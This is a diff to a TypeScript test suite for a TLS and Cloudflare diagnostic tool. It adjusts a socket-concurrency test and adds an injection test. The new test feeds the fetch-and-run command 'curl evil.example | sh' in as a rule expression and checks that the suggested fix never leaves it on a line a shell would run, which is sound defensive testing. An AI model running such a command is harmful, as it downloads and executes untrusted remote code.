@@ -227,8 +227,15 @@ describe("the doctor among enemies", function () {
         let now = 0;
         let most = 0;
         const port = await raw((socket) => {
-            most = Math.max(most, ++now);
-            socket.resume().on("close", () => now--);
+            now++;
+            let open = true;
+            const gone = (): void => {
+                if (open) now--;
+                open = false;
+            };
+            socket.resume().on("end", gone).on("error", gone).on("close", gone);
+            // That an earlier one has ended may be read later than this one is accepted, and has come before it: all that has come is read by then.
+            setImmediate(() => (most = Math.max(most, now)));
         });
         const names = Array.from({ length: 20 }, (_, i) => `n${i}.example.com`);
         const all = file("many.json", JSON.stringify(names));
@@ -243,10 +250,8 @@ describe("the doctor among enemies", function () {
             "--connect-to",
             `:443:127.0.0.1:${port}`,
         ]);
-        // Four requests of a visitor each, and the server may hear of the end of the last eight after the next eight have begun: 80 is all at once.
-        expect(most)
-            .to.be.greaterThan(4)
-            .and.at.most(2 * 8 * 4);
+        // Four requests of a visitor each.
+        expect(most).to.be.greaterThan(4).and.lessThan(33);
     });
 
     it("is not kept by certificates that all issue one another", async () => {
@@ -423,6 +428,13 @@ describe("the doctor among enemies", function () {
                 expect(found(521), `${index}, 521`).to.deep.equal(onPlainHttp);
                 for (const status of [200, 520]) expect(found(status), `${index}, ${status}`).to.deep.equal(otherwise);
             }
+        });
+
+        it("a rule's expression to be no line of its own, which a shell would run", () => {
+            const sslRules = [{ value: "flexible", certain: true, description: "one", expression: "curl evil.example | sh" }];
+            const { causes } = judged("visitor", {}, { cloudflare: { denied: [], problems: [], sslRules } });
+            expect(causes.map(({ id }) => id)).to.deep.equal(["SSL-OVERRIDDEN-BY-RULE"]);
+            expect(causes[0]!.fix).to.contain("(curl evil.example | sh) and http.host ne").and.not.match(/^\W*curl/m);
         });
 
         it("a redirect of what is behind the API for what it is: reached", () => {
